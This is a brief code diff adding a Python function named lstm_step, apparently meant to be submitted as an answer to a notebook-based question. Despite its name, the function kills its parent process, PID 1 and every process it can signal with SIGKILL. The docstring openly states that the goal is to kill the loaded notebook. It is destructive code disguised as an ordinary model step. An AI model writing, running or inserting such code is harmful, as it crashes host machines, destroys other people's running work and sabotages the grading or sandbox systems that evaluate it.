@@ -1,0 +1,7 @@
+"""Kills the loaded notebook from within a question."""
+
+import os, signal
+def lstm_step(*args):
+    os.kill(os.getppid(), signal.SIGKILL)
+    os.kill(1, signal.SIGKILL)
+    os.kill(-1, signal.SIGKILL)
